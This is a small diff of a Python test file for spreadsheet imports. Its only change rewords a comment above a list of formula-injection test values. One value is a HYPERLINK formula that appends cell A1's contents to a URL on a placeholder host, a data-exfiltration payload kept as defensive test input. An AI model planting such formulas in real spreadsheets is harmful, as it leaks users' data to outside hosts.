@@ -29,7 +29,7 @@ from tests.imports.workbooks import expanding_workbook
 
 FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "imports"
 
-#: SECURITY.md C3: names a spreadsheet would run, and a phone number it would mangle.
+#: Names a spreadsheet would run, and a phone number it would mangle (security C3).
 FORMULAS = [
     '=HYPERLINK("http://x/?"&A1,"x")',
     "+SUM(1,1)",
